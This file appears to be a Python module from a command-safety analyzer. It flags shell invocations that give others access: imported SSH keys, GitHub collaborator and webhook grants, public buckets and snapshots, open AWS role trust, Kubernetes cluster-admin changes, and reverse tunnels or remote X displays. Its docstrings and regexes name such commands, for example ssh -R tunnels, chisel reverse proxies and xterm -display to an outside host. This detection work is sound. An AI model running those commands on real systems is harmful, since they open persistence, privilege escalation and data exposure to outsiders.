"""Access handed to someone else, through the tools that manage it rather than through a file (and a branch
force-updated through GitHub's API, which is the force push it looks like): login keys
imported from a forge account, a key added to the user's GitHub account, a stranger made a collaborator, a
private repository made public, a cloud role whose trust policy lets another account assume it, a subject
added to Kubernetes' cluster-admin, the cluster's API served to the network, and a terminal opened on a
remote X display. Each is the deny class its file-written form already is.
"""
from __future__ import annotations

import re
from typing import Final

from phlegyas.analysis.shell.invocation import Invocation
from phlegyas.analysis.tier1.base import Out, add
from phlegyas.analysis.urls import DEV_HOSTS
from phlegyas.core.analysis import AnalysisEnv

_OWN_KEY: Final = re.compile(r"(?:^|/)\.ssh/[^/]+\.pub$|^~/\.ssh/|^\$HOME/\.ssh/")


def detect_ssh_import(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``ssh-import-id gh:someone``: that account's public keys are appended to ``~/.ssh/authorized_keys``."""
    who = [w.text for w in inv.args if not w.text.startswith("-")]
    if who and not any(w.text in ("-r", "--remove") for w in inv.args):
        add(out, "persistence.ssh_keys", inv, f"ssh-import-id lets {', '.join(who[:3])} log in to this machine")


def detect_gh_grants(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``gh ssh-key add /tmp/k.pub`` (a key that is not the user's own: account access), ``gh api -X PUT
    repos/O/R/collaborators/U``, ``gh repo edit --visibility public``."""
    texts = [w.text for w in inv.args]
    words = [t for t in texts if not t.startswith("-")]
    if words[:2] in (["ssh-key", "add"], ["gpg-key", "add"]) and len(words) > 2 and not _OWN_KEY.search(words[2]):
        add(out, "persistence.ssh_keys", inv, f"gh {words[0]} add puts {words[2]} on your GitHub account: whoever "
                                              "holds its private half acts as you")
    elif words[:1] == ["api"] and any(re.search(r"/collaborators/[^/\s]+$|/(?:teams|memberships)/", w) for w in words) \
            and _method(texts) in ("PUT", "POST", "PATCH"):
        add(out, "priv.escalation", inv, "gh api gives another account access to the repository")
    elif words[:1] == ["api"] and any(re.search(r"/git/refs/(?:heads|tags)/", w) for w in words) and any(
            re.match(r"force=(?:true|1)$", t) for t in texts) and _method(texts) in ("PATCH", "POST", "PUT"):
        ref = next(w for w in words if "/git/refs/" in w).split("/git/refs/", 1)[1]
        add(out, "git.force_push", inv, f"gh api force-updates {ref} on GitHub, replacing its history")
    elif words[:1] == ["api"] and _method(texts) in ("POST", "PUT", "PATCH") and any(
            re.search(r"(?:^|/)(?:repos/[^/\s]+/[^/\s]+/keys|user/keys|user/ssh_signing_keys)$", w) for w in words):
        add(out, "persistence.ssh_keys", inv, "gh api adds an SSH key to the repository or the account: whoever holds "
                                              "its private half gets in")
    elif words[:1] == ["api"] and _method(texts) in ("POST", "PUT", "PATCH") and any(
            re.search(r"(?:^|/)(?:repos/[^/\s]+/[^/\s]+|orgs/[^/\s]+)/hooks$", w) for w in words):
        add(out, "net.exfiltration", inv, "gh api adds a webhook: every push (or every event) is sent to the URL it "
                                          "names")
    elif words[:2] == ["repo", "edit"] and any(t in ("--visibility=public",) or t == "--visibility" and i + 1 < len(
            texts) and texts[i + 1] == "public" for i, t in enumerate(texts)):
        add(out, "net.exfiltration", inv, "gh repo edit makes the repository public: its code and history, to everyone")


def _method(texts: list[str]) -> str:
    for i, t in enumerate(texts):
        if t in ("-X", "--method") and i + 1 < len(texts):
            return texts[i + 1].upper()
        if t.startswith(("--method=", "-X")) and len(t) > 2:
            return t.split("=", 1)[-1].removeprefix("-X").upper()
    return "GET"


_TRUST_OPEN: Final = re.compile(r'"Principal"\s*:\s*(?:"\*"|\{[^}]*"AWS"\s*:\s*(?:"\*"|\[?\s*"arn:aws:iam::\d+:root"))')


def detect_cloud_trust(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``aws iam update-assume-role-policy`` / ``create-role`` whose trust policy lets anyone, or another
    account's root, assume the role."""
    texts = [w.text for w in inv.args]
    if texts[:2] not in (["iam", "update-assume-role-policy"], ["iam", "create-role"]):
        return
    policy = " ".join(texts)
    if _TRUST_OPEN.search(policy) or texts[1] == "update-assume-role-policy" and "file://" not in policy:
        add(out, "priv.escalation", inv, "aws iam changes who may assume the role: another account gets its rights")


_EVERYONE: Final = re.compile(r"\ballUsers\b|\ballAuthenticatedUsers\b|AllUsers:|\bpublic-read(?:-write)?\b|"
                             r"authenticated-read\b")


def detect_cloud_public(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """A bucket, snapshot or image opened to everyone (``--member=allUsers``, ``--acl public-read``, a snapshot's
    ``createVolumePermission`` for ``all``), or an IAM policy version allowing every action on every resource."""
    texts = [w.text for w in inv.args]
    joined = " ".join(texts)
    words = [t for t in texts if not t.startswith("-")]
    if inv.program in ("gcloud", "gsutil") and ("add-iam-policy-binding" in words or words[:2] == ["iam", "ch"]
                                                or words[:2] == ["acl", "ch"]) and _EVERYONE.search(joined):
        add(out, "net.exfiltration", inv, f"{inv.program} opens the resource to everyone on the internet")
    elif inv.program == "aws" and any(w in ("put-bucket-acl", "put-object-acl") for w in words) \
            and _EVERYONE.search(joined):
        add(out, "net.exfiltration", inv, "aws opens the bucket's objects to everyone on the internet")
    elif inv.program == "aws" and any(w in ("modify-snapshot-attribute", "modify-image-attribute",
                                            "modify-db-snapshot-attribute", "modify-db-cluster-snapshot-attribute")
                                      for w in words) and re.search(r"(?:--group-names|--values-to-add)[ =]\s*all\b|"
                                                                    r"\"Group\"\s*:\s*\"all\"", joined):
        add(out, "net.exfiltration", inv, "aws shares the snapshot or image with every AWS account (its data)")
    elif inv.program == "aws" and "create-policy-version" in words and "--set-as-default" in texts and re.search(
            r'"Action"\s*:\s*(?:"\*"|\[\s*"\*"\s*\])', joined) and re.search(r'"Resource"\s*:\s*(?:"\*"|\[\s*"\*")',
                                                                          joined):
        add(out, "priv.escalation", inv, "aws makes the policy allow every action on every resource (administrator)")
    elif inv.program == "gcloud" and "add-metadata" in words and re.search(r"(?:^|[\s=,])ssh-keys=", joined):
        add(out, "persistence.ssh_keys", inv, "gcloud adds an SSH key to the project's or instance's metadata: whoever "
                                              "holds its private half logs in to the machines")


def detect_ssh_copy_id(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``ssh-copy-id -i /tmp/helper.pub host``: a key that is not one of the user's own (``~/.ssh/*.pub``)."""
    texts = [w.text for w in inv.args]
    key = next((texts[i + 1] for i, t in enumerate(texts[:-1]) if t == "-i"), None)
    target = next((t for t in reversed(texts) if not t.startswith("-") and t != key), "")
    here = target.rsplit("@", 1)[-1] in ("localhost", "127.0.0.1", "::1")
    if key is not None and not _OWN_KEY.search(key) and (re.match(r"/(?:tmp|var/tmp|dev/shm)/", key) or here):
        add(out, "persistence.ssh_keys", inv, f"ssh-copy-id installs {key}, a key from a temporary directory or onto "
                                              "this machine itself, as a login key")


def detect_tailscale(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``tailscale up --ssh`` (with someone's ``--authkey``): the machine joins a tailnet that may log in to it."""
    texts = [w.text for w in inv.args]
    keyed = any(t.startswith(("--authkey", "--auth-key")) for t in texts)  # a tailnet someone handed over
    if texts[:1] in (["up"], ["login"], ["set"]) and keyed and any(t == "--ssh" or t == "--ssh=true" for t in texts):
        add(out, "priv.escalation", inv, "tailscale lets the tailnet log in to this machine over SSH")


_LOGIN_PORTS: Final = frozenset({"22", "3389", "5900", "5901", "23"})


def detect_reverse_tunnel(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``ssh -R 2222:localhost:22 host``, ``chisel client HOST R:socks``: another machine gets a way in to this
    one's logins (ssh, RDP, VNC) or, through a SOCKS proxy, to every host this one reaches."""
    texts = [w.text for w in inv.args]
    if inv.program == "ssh":
        specs = [texts[i + 1] for i, t in enumerate(texts[:-1]) if re.fullmatch(r"-[A-Za-z]*R", t)]  # -R, -fNR
        specs += [t[2:] for t in texts if t.startswith("-R") and len(t) > 2]
        for spec in specs:
            parts = spec.split(":")
            if len(parts) >= 2 and parts[-1] in _LOGIN_PORTS or len(parts) <= 2 and parts[-1].isdigit() and \
                    "-D" not in texts and len(parts) == 1:
                add(out, "net.reverse_shell", inv, f"ssh -R {spec} lets the other host reach this machine's "
                                                   "login port (or proxy through it)")
                return
    elif inv.program == "chisel" and texts[:1] == ["client"] and any(t.startswith("R:") for t in texts):
        add(out, "net.reverse_shell", inv, "chisel opens a reverse tunnel: the server reaches this machine and its "
                                           "network")


def detect_kube_grants(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``kubectl patch|edit clusterrolebinding cluster-admin``; ``kubectl proxy --address=0.0.0.0``: the
    cluster's API, with the user's credentials, to the whole network."""
    texts = [w.text for w in inv.args]
    words = [t for t in texts if not t.startswith("-")]
    if words[:1] in (["patch"], ["edit"], ["replace"]) and len(words) > 1 and (
            words[1].startswith("clusterrolebinding") and ("cluster-admin" in words or "clusterrolebinding/cluster-admin"
                                                          in words)):
        add(out, "priv.escalation", inv, "kubectl changes who is cluster-admin: every secret and node of the cluster")
    elif words[:1] == ["proxy"]:
        address = next((t.split("=", 1)[1] for t in texts if t.startswith("--address=")), None)
        if address is None and "--address" in texts and texts.index("--address") + 1 < len(texts):
            address = texts[texts.index("--address") + 1]
        if address is not None and address not in DEV_HOSTS - {"0.0.0.0"} and address != "localhost":
            add(out, "priv.escalation", inv, f"kubectl proxy serves the cluster's API with your credentials on "
                                             f"{address}, to anyone who can reach it")


def detect_remote_display(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
    """``xterm -display 203.0.113.9:1``: a shell in a window on someone else's screen (a reverse shell)."""
    texts = [w.text for w in inv.args]
    for i, t in enumerate(texts):
        if t in ("-display", "--display", "-d") and i + 1 < len(texts):
            host = texts[i + 1].rsplit(":", 1)[0]
            if host and host not in ("localhost", "127.0.0.1", "unix"):
                add(out, "net.reverse_shell", inv, f"{inv.program} opens a shell on the display of {host}")
                return


__all__ = ["detect_cloud_public", "detect_cloud_trust", "detect_gh_grants", "detect_kube_grants",
           "detect_remote_display", "detect_reverse_tunnel", "detect_ssh_copy_id", "detect_ssh_import",
           "detect_tailscale"]
